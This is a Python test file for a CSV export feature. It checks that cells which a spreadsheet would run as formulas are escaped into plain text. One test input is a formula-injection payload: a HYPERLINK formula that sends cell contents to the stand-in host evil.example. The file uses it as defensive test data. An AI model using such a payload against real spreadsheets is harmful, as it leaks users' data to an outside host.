"""`baton export`: a spreadsheet opening the CSV shows what people typed and runs nothing."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

from storage import blockers, escalations
from storage.db import Database

NOW = datetime(2026, 11, 23, 14, 0, tzinfo=UTC)


def _escalate(db: Database, title: str) -> None:
    with db.unit_of_work() as session:
        escalations.create_escalation(
            session,
            team_id="T1",
            title=title,
            severity=2,
            reporter_id="UREPORTER",
            owner_id="UOWNER",
            source_channel_id="CGENERAL",
            now=NOW,
        )


def _column(path: Path, name: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [row[name] for row in csv.DictReader(handle)]


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    database_url: str, tmp_path: Path
) -> None:
    from storage.export import export_tables

    db = Database(database_url)
    titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1 555 0100 keeps ringing",
        "-2 nodes left in the pool",
        "@dana the build is red",
        "\tTabbed title",
        "Plain title = fine",
        "",
    ]
    for title in titles:
        _escalate(db, title)
    with db.unit_of_work() as session:
        blockers.create_blocker(
            session,
            team_id="T1",
            text="=1+1 waits on the VPN",
            reporter_id="UREPORTER",
            source_channel_id="CGENERAL",
            now=NOW,
        )
    export_tables(db, tmp_path)
    db.dispose()

    assert _column(tmp_path / "escalations.csv", "title") == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'+1 555 0100 keeps ringing",
        "'-2 nodes left in the pool",
        "'@dana the build is red",
        "'\tTabbed title",
        "Plain title = fine",
        "",
    ]
    assert _column(tmp_path / "blockers.csv", "text") == ["'=1+1 waits on the VPN"]
    # Numbers and times are not text a person typed: they are written as they are.
    assert _column(tmp_path / "escalations.csv", "severity") == ["sev2"] * len(titles)
    assert _column(tmp_path / "escalations.csv", "created_at") == [
        "2026-11-23T14:00:00+00:00"
    ] * len(titles)
